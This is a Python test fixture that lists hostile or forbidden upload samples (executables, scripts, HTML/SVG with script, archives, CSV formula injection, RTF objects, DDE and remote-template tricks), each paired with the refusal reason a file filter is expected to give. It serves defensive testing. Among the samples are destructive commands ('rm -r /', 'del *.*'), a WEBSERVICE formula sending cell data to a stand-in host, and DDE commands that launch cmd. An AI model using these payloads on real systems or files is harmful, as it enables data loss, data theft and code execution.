"""Files that somebody made to harm, or that simply may not be shared, each with the reason they are refused for."""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable

from app.domain.documents.content import MOST_BYTES, Refusal
from tests.documents.made.containers import zipped
from tests.documents.made.harmless import exactly
from tests.documents.made.hostile_images import HOSTILE_IMAGES
from tests.documents.made.hostile_office import HOSTILE_OFFICE
from tests.documents.made.hostile_pdfs import HOSTILE_PDFS
from tests.documents.made.office import OLD_CONTAINER

Maker = Callable[[], bytes]
Row = tuple[str, Maker, Refusal]

_PE = b"MZ" + bytes(58) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\x00\x00\x4c\x01" + bytes(200)
_EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
_LINK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
_MAIL = b"From: a@b.be\r\nTo: c@d.be\r\nSubject: plan\r\nMIME-Version: 1.0\r\n\r\nhallo"
_PAGES = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x--"


def _always(content: bytes) -> Maker:
    return lambda: content


def _old(stream: str) -> Maker:
    return _always(OLD_CONTAINER + stream.encode("utf-16-le") + bytes(512))


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("plan.txt"))
    return out.getvalue()


def _rtf(inside: bytes) -> Maker:
    return _always(b"{\\rtf1\\ansi " + inside + b"}")


_PROGRAMS: dict[str, Row] = {
    "program of Windows": ("plan.exe", _always(_PE), Refusal.PROGRAM),
    "program named pdf": ("plan.pdf", _always(_PE), Refusal.PROGRAM),
    "program with two extensions": ("plan.pdf.exe", _always(_PE), Refusal.PROGRAM),
    "program of Linux": ("plan.txt", _always(b"\x7fELF\x02\x01\x01" + bytes(200)), Refusal.PROGRAM),
    "program of a Mac": ("plan", _always(b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(100)), Refusal.PROGRAM),
    "program of Java": ("plan.class", _always(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(50)), Refusal.PROGRAM),
    "program for a browser": ("plan.wasm", _always(b"\x00asm\x01\x00\x00\x00"), Refusal.PROGRAM),
    "jar": ("plan.docx", lambda: zipped({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), Refusal.PROGRAM),
    "shortcut": ("plan.lnk", _always(_LINK), Refusal.PROGRAM),
    "link of Windows": ("plan.url", _always(b"[InternetShortcut]\r\nURL=file://x/y.exe\r\n"), Refusal.PROGRAM),
    "link of Linux": ("plan.txt", _always(b"[Desktop Entry]\nExec=rm\n"), Refusal.PROGRAM),
    "help file": ("plan.chm", _always(b"ITSF\x03\x00\x00\x00" + bytes(100)), Refusal.PROGRAM),
    "shell script": ("plan.txt", _always(b"#!/bin/sh\nrm -r /\n"), Refusal.PROGRAM),
    "python script": ("plan.txt", _always(b"#!/usr/bin/python3\nimport os\n"), Refusal.PROGRAM),
    "batch file": ("plan.txt", _always(b"@echo off\r\ndel *.*\r\n"), Refusal.PROGRAM),
    "batch file by name alone": ("plan.bat", _always(b"del *.*\r\n"), Refusal.PROGRAM),
    "powershell by name alone": ("plan.ps1", _always(b"Get-ChildItem"), Refusal.PROGRAM),
    "name that reads backwards": ("plan\u202etxt.bat", _always(b"del *.*"), Refusal.PROGRAM),
    "name with a zero": ("plan.txt\x00.bat", _always(b"del *.*"), Refusal.PROGRAM),
    "name with a space behind": ("plan.bat ", _always(b"del *.*"), Refusal.PROGRAM),
    "powershell by content": ("p.txt", _always(b"Invoke-Expression (New-Object Net.WebClient)"), Refusal.PROGRAM),
    "visual basic": ("p.txt", _always(b'Set a = CreateObject("WScript.Shell")\r\na.Run "calc"'), Refusal.PROGRAM),
    "javascript of Windows": ("p.txt", _always(b"var x = new ActiveXObject('WScript.Shell');"), Refusal.PROGRAM),
    "registry file": ("p.txt", _always(b"Windows Registry Editor Version 5.00\r\n"), Refusal.PROGRAM),
    "registry file in UTF-16": ("p.txt", lambda: "Windows Registry Editor".encode("utf-16"), Refusal.PROGRAM),
    "postscript": ("p.txt", _always(b"%!PS-Adobe-3.0\n(x) run\n"), Refusal.PROGRAM),
    "test virus": ("p.txt", _always(_EICAR), Refusal.PROGRAM),
    "test virus in a text": ("p.txt", _always(b"Beste,\n" + _EICAR), Refusal.PROGRAM),
}
_PAGES_AND_MAILS: dict[str, Row] = {
    "web page named txt": ("plan.txt", _always(b"<!DOCTYPE html><html><script>x</script>"), Refusal.WEB_PAGE),
    "script of a page": ("plan.txt", _always(b"hallo <script>alert(1)</script>"), Refusal.WEB_PAGE),
    "page in UTF-16": ("plan.txt", lambda: "<html><script>1</script>".encode("utf-16"), Refusal.WEB_PAGE),
    "page of a program": ("plan.hta", _always(b"<hta:application id=x>"), Refusal.WEB_PAGE),
    "php": ("plan.txt", _always(b"<?php system('ls');"), Refusal.WEB_PAGE),
    "svg": ("plan.svg", _always(b"<svg xmlns='http://www.w3.org/2000/svg'/>"), Refusal.WEB_PAGE),
    "svg named png": ("plan.png", _always(b"<svg onload='alert(1)'></svg>"), Refusal.WEB_PAGE),
    "xml": ("plan.txt", _always(b"<?xml version='1.0'?><a/>"), Refusal.WEB_PAGE),
    "flat OpenDocument": ("plan.fodt", _always(b"<?xml version='1.0'?><office:document/>"), Refusal.WEB_PAGE),
    "mail": ("plan.eml", _always(_MAIL), Refusal.MAIL),
    "saved pages": ("plan.mht", _always(_PAGES), Refusal.MAIL),
    "mail of Outlook": ("plan.msg", _old("__properties_version1.0"), Refusal.MAIL),
    "old Word": ("plan.doc", _old("WordDocument"), Refusal.OLD_OFFICE),
    "old Word named docx": ("plan.docx", _old("WordDocument"), Refusal.OLD_OFFICE),
    "old Excel": ("lijst.xls", _old("Workbook"), Refusal.OLD_OFFICE),
    "old PowerPoint": ("plan.ppt", _old("PowerPoint Document"), Refusal.OLD_OFFICE),
    "Word with a password": ("plan.docx", _old("EncryptedPackage"), Refusal.PROTECTED_OFFICE),
    "installer": ("plan.msi", _old("iets anders"), Refusal.UNKNOWN_TYPE),
}
_ARCHIVES: dict[str, Row] = {
    "zip": ("plan.zip", lambda: zipped({"plan.txt": "x"}), Refusal.ARCHIVE),
    "zip named docx": ("plan.docx", lambda: zipped({"plan.exe": _PE}), Refusal.ARCHIVE),
    "empty zip": ("plan.zip", lambda: zipped({}), Refusal.ARCHIVE),
    "rar": ("plan.pdf", _always(b"Rar!\x1a\x07\x00" + bytes(50)), Refusal.ARCHIVE),
    "7z": ("plan.7z", _always(b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(50)), Refusal.ARCHIVE),
    "gzip": ("plan.gz", lambda: gzip.compress(b"plan"), Refusal.ARCHIVE),
    "bzip2": ("plan.bz2", _always(b"BZh91AY&SY" + bytes(50)), Refusal.ARCHIVE),
    "xz": ("plan.xz", _always(b"\xfd7zXZ\x00\x00\x04" + bytes(50)), Refusal.ARCHIVE),
    "zstandard": ("plan.zst", _always(b"\x28\xb5\x2f\xfd\x24" + bytes(50)), Refusal.ARCHIVE),
    "tar": ("plan.txt", _tar, Refusal.ARCHIVE),
    "cabinet": ("plan.txt", _always(b"MSCF" + bytes(60)), Refusal.ARCHIVE),
    "image of a disk": ("plan.iso", _always(bytes(32769) + b"CD001" + bytes(3000)), Refusal.ARCHIVE),
    "disk of a virtual machine": ("plan.vhd", _always(b"conectix" + bytes(600)), Refusal.ARCHIVE),
    "epub": ("p.epub", lambda: zipped({"mimetype": "application/epub+zip"}, ("mimetype",)), Refusal.UNKNOWN_TYPE),
}
_OTHERS: dict[str, Row] = {
    "nothing": ("plan.pdf", _always(b""), Refusal.EMPTY),
    "one byte more than 10 MB": ("plan.txt", lambda: exactly(MOST_BYTES + 1), Refusal.TOO_LARGE),
    "film": ("plan.mp4", _always(b"\x00\x00\x00\x18ftypisom" + bytes(60)), Refusal.UNKNOWN_TYPE),
    "photo of an iPhone": ("f.heic", _always(b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1"), Refusal.UNKNOWN_TYPE),
    "database": ("plan.db", _always(b"SQLite format 3\x00" + bytes(100)), Refusal.UNKNOWN_TYPE),
    "OneNote": ("p.one", _always(b"\xe4R\x5c{\x8c\xd8\xa7M\xae\xb1Sx\xd0)\x96\xd3" + bytes(50)), Refusal.UNKNOWN_TYPE),
    "noise": ("plan.pdf", _always(bytes(range(256)) * 8), Refusal.UNKNOWN_TYPE),
    "text with escapes": ("plan.txt", _always(b"\x1b]0;titel\x07hallo"), Refusal.UNKNOWN_TYPE),
    "text that is an archive too": ("plan.txt", lambda: b"hallo " + zipped({"a": "b"}), Refusal.UNKNOWN_TYPE),
    "csv that starts a program": ("l.csv", _always(b"naam;x\r\nJef;=cmd|'/c calc'!A1\r\n"), Refusal.EXTERNAL_REFERENCE),
    "csv behind a sum": ("l.csv", _always(b"Jef,\"=SUM(1)*cmd|'/c calc'!A1\"\r\n"), Refusal.EXTERNAL_REFERENCE),
    "csv that sends": ("l.csv", _always(b'=WEBSERVICE("http://x/"&A1)\r\n'), Refusal.EXTERNAL_REFERENCE),
    "rtf with an object": ("p.rtf", _rtf(b"{\\object\\objemb{\\*\\objdata 0105}}"), Refusal.EMBEDDED_OBJECT),
    "rtf that loads itself": ("p.rtf", _rtf(b"{\\object\\objautlink\\objupdate}"), Refusal.EMBEDDED_OBJECT),
    "rtf with bare bytes": ("p.rtf", _rtf(b"{\\pict\\bin5 12345}"), Refusal.EMBEDDED_OBJECT),
    "rtf with a hidden link": ("p.rtf", _rtf(b"{\\*\\datafield c6afabec197f}"), Refusal.EMBEDDED_OBJECT),
    "rtf that overflows": ("p.rtf", _rtf(b"{\\sp{\\sn pFragments}{\\sv 1}}"), Refusal.EMBEDDED_OBJECT),
    "rtf that fetches a template": ("p.rtf", _rtf(b"{\\*\\template http://x/y}"), Refusal.EXTERNAL_REFERENCE),
    "rtf with a template elsewhere": ("p.rtf", _rtf(b"{\\*\\template \\\\\\\\x\\\\y}"), Refusal.EXTERNAL_REFERENCE),
    "rtf with DDE": ("p.rtf", _rtf(b'{\\field{\\*\\fldinst{DDEAUTO c:\\\\cmd "x"}}}'), Refusal.EXTERNAL_REFERENCE),
    "rtf with DDE in letters by number": (
        "plan.rtf",
        _rtf(b"{\\field{\\*\\fldinst{\\'44\\u68?E{\\b AUTO} c:\\\\cmd}}}"),
        Refusal.EXTERNAL_REFERENCE,
    ),
    "rtf that fetches an image": (
        "plan.rtf",
        _rtf(b'{\\field{\\*\\fldinst{INCLUDEPICTURE "http://x/y.png" \\\\d}}}'),
        Refusal.EXTERNAL_REFERENCE,
    ),
    "rtf with something behind": ("p.rtf", _always(b"{\\rtf1 a} en meer"), Refusal.TWO_IN_ONE),
    "rtf that is not closed": ("p.rtf", _always(b"{\\rtf1 {a}"), Refusal.UNREADABLE),
    "rtf that is nested without end": ("p.rtf", _rtf(b"{" * 1000 + b"}" * 1000), Refusal.UNREADABLE),
}

HOSTILE: dict[str, Row] = {
    **_PROGRAMS,
    **_PAGES_AND_MAILS,
    **_ARCHIVES,
    **_OTHERS,
    **HOSTILE_PDFS,
    **HOSTILE_OFFICE,
    **HOSTILE_IMAGES,
}
